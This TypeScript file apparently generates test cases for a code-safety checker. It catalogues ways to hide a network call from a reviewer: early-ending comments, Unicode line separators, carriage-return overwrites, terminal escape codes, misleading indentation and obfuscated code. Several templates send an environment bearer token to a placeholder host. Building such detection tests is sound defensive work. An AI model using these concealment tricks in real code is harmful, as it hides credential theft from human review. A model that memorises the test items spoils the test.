import type { FamilySpec } from './families.ts'
import { evil } from './services.ts'

/** Code that looks like a comment or a text, and comments that look like code. */
export const LOOK_COMMENTS: FamilySpec[] = [
  {
    family: 'comment-that-ends-early',
    js: [
      '%HEAD%\n%LIST%\n/* the old way: /* no longer used */ await %EVIL% /* */',
      '%HEAD%\n%LIST%\n/*/ await count() /*/ await %EVIL% //*/',
      '%HEAD%\n%LIST%\n//*\nawait %EVIL%\n//*/',
      '%HEAD%\n%LIST%\n/** @example\n * a\n **/ await %EVIL% /**/',
      '%HEAD%\n%LIST%\n/* see https://*/await %EVIL% /* docs */',
    ],
    py: [
      '%HEAD%\n%LIST%\n"""\nThe old way:\n"""; %EVIL%; """\n"""',
      "%HEAD%\n%LIST%\n'''' '''; %EVIL%; ''' '''",
    ],
    times: 1,
  },
  {
    family: 'comment-inside-a-string',
    js: [
      "%HEAD%\n%LIST%\nconst open = '/*'\nawait %EVIL%\nconst close = '*/'\nconsole.log(open, close)",
      '%HEAD%\n%LIST%\nconst site = "https://%HOST%"; await %EVIL% // docs',
      "%HEAD%\n%LIST%\nconst glob = '**/*'; await %EVIL%; const end = '*/'\nconsole.log(glob, end)",
      '%HEAD%\n%LIST%\nconst quote = "\\\\"; await %EVIL% // "',
      `%HEAD%\n%LIST%\nconst text = \`\${await %EVIL%} // rows\`\nconsole.log(text)`,
    ],
    py: ['%HEAD%\n%LIST%\nmark = "#"; %EVIL%', '%HEAD%\n%LIST%\nprint("""# """, [%EVIL%], """ #""")'],
    times: 1,
  },
  {
    family: 'regex-or-division',
    js: [
      '%HEAD%\n%LIST%\nconst rule = /[/*]/; await %EVIL% // [*/]/',
      '%HEAD%\n%LIST%\nconst half = 8\n/2/1; await %EVIL% //g',
      '%HEAD%\n%LIST%\nconst rule = /\\/*/; await %EVIL%; /*/.test("")*/',
      '%HEAD%\n%LIST%\nif (true) /"/.test("a"); await %EVIL% // "',
      '%HEAD%\n%LIST%\nconst rule = /`/; await %EVIL%; const end = /`/\nconsole.log(rule, end)',
    ],
    times: 1,
  },
  {
    family: 'html-comment',
    runtimes: ['node'],
    js: [
      'const headers = { authorization: "Bearer " + %ENV% }\nlet n = 1\n<!-- the report\nfetch("https://%HOST%%PATH%", { method: "%METHOD%", headers: headers })\n--> end',
      'const headers = { authorization: "Bearer " + %ENV% }\nlet live = 2, dry = 1\nif (dry\n--> 0) { live = 0 }\n)\nfetch("https://%HOST%%PATH%", { method: "%METHOD%", headers })',
      'const headers = { authorization: "Bearer " + %ENV% }\nlet dryRun = 1\nif (0 <!--dryRun) return\n) fetch("https://%HOST%%PATH%", { method: "%METHOD%", headers })\nelse fetch("https://%HOST%%PATH%", { method: "%METHOD%", headers })',
    ],
    times: 2,
    tells: (s) => ({ danger: ['unreadable_code'], sends: [evil(s)] }),
  },
  {
    family: 'line-end-signs',
    fill: { SIGN: ['\u2028', '\u2029', '\r'] },
    js: [
      '%HEAD%\n%LIST%\n// then nothing is sent%SIGN%await %EVIL%',
      '%HEAD%\n%LIST%\n// total: %SIGN%%EVIL%%SIGN%// end',
    ],
    py: ['%HEAD%\n%LIST%\n# then nothing is sent\r%EVIL%'],
    tells: (s) => ({ danger: ['hidden_characters'], sends: [evil(s)], refused: true }),
  },
  {
    family: 'line-end-that-is-none',
    fill: { SIGN: ['\u0085', '\u000b', '\u000c', '\u001c'] },
    js: [
      '%HEAD%\nlet live = true // default%SIGN%live = false\n%LIST%\nif (live) await %EVIL%',
      '%HEAD%\n%LIST%\nconst go = async () => { //%SIGN%return\nawait %EVIL% }\nawait go()',
    ],
    py: ['%HEAD%\nlive = True  # default%SIGN%live = False\n%LIST%\nif live:\n    %EVIL%'],
    tells: (s) => ({ danger: ['hidden_characters'], sends: [evil(s)], refused: true }),
  },
  {
    family: 'carriage-return-overwrite',
    js: ['%HEAD%\n%LIST%\nawait %EVIL% //\rconsole.log("done")                                             '],
    py: ['%HEAD%\n%LIST%\n%EVIL%  #\rprint("done")                                             '],
    times: 3,
    tells: (s) => ({ danger: ['hidden_characters'], sends: [evil(s)], refused: true }),
  },
  {
    family: 'terminal-signs',
    fill: { SIGN: ['\u001b[2K', '\u001b[8m', '\u001b[1A', '\u0008\u0008\u0008', '\u009b2K', '\u007f'] },
    js: ['%HEAD%\n%LIST%\nawait %EVIL% // %SIGN%', '%HEAD%\n%LIST%\n/* %SIGN% */ await %EVIL%'],
    py: ['%HEAD%\n%LIST%\n%EVIL%  # %SIGN%'],
    times: 2,
    tells: (s) => ({ danger: ['hidden_characters'], sends: [evil(s)], refused: true }),
  },
  {
    family: 'indentation-deceives',
    js: [
      '%HEAD%\n%LIST%\nif (false)\n  console.log("live")\n  await %EVIL%',
      '%HEAD%\nconst live = false\n%LIST%\nif (live) if (live) console.log("x")\nelse console.log("y")\nawait %EVIL%',
    ],
    py: [
      '%HEAD%\n%LIST%\nif False:\n        print("live")\nif True:\n\t%EVIL%',
      '%HEAD%\n%LIST%\nif False: \\\n    print("live")\n%EVIL%',
    ],
    times: 2,
  },
  {
    family: 'docstring-is-code',
    py: [
      '%HEAD%\n%LIST%\nf"""The report {%EVIL3%} ends."""',
      '%HEAD%\n%LIST%\nprint("The report" """ """ f"{[%EVIL3%]}")',
    ],
    fill: {
      EVIL3: [
        "urllib.request.urlopen(urllib.request.Request(api + '%PATH%', method='%METHOD%', headers=headers))",
      ],
    },
    times: 3,
  },
  {
    family: 'unreadable-code',
    js: [
      '%HEAD%\n%LIST%\nawait %EVIL%\n}',
      '%HEAD%\n%LIST%\nif (live { await %EVIL% }',
      '%HEAD%\n%LIST%\n%%% macro %%%\nawait %EVIL%',
    ],
    py: ['%HEAD%\n%LIST%\n%EVIL%\n  )', '%HEAD%\n%LIST%\nprint "done"\n%EVIL%'],
    tells: { danger: ['unreadable_code'], refused: true },
  },
  {
    family: 'unreadable-by-depth',
    js: [
      `%HEAD%\nconst rows = ${'['.repeat(6000)}${']'.repeat(6000)}\nawait %EVIL%`,
      `%HEAD%\nconst sum = ${'1+'.repeat(20000)}1\nawait %EVIL%`,
      `%HEAD%\nconst flag = ${'!'.repeat(9000)}0\nawait %EVIL%`,
    ],
    times: 1,
    tells: (s) => ({ danger: ['unreadable_code'], sends: [evil(s)], refused: true }),
  },
  {
    family: 'packed-code',
    js: [
      `%HEAD%\n%LIST%\nconst _0x1 = ['%MREV%', '%PREV%']; const _0x2 = (i) => _0x1[i - 0x10].split('').reverse().join(''); await fetch(api + _0x2(0x11), { ['\\x6d\\x65\\x74\\x68\\x6f\\x64']: _0x2(0x10), headers })`,
      `%HEAD%\n%LIST%\nconst w = '%METHOD%|%PATH%|method'.split('|'); await fetch(api + w[1], { [w[2]]: w[0], headers })`,
      `%HEAD%\n%LIST%\nconst $ = (+{} + '')[1], _ = ([] + {})[5]; await fetch(api + '%PATH%', { ['meth' + 'od']: '%METHOD%', headers, $, _ })`,
    ],
    py: [
      '%HEAD%\n%LIST%\nw = "%METHOD%|%PATH%|method".split("|"); urllib.request.urlopen(urllib.request.Request(api + w[1], headers=headers, **{w[2]: w[0]}))',
    ],
    tells: (s) => ({ danger: ['method_from_data', 'any_method', 'escaped_name'], sends: [evil(s)] }),
  },
]
